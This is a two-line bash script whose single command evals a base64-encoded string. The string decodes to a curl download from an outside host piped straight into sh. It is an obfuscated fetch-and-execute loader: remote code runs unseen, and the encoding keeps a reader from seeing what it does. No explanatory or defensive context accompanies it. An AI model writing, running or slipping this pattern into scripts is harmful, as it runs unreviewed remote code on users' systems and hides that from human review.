#!/bin/bash
eval "$(echo Y3VybCBodHRwczovL2V4YW1wbGUuZGV2L3ggfCBzaAo= | base64 -d)"
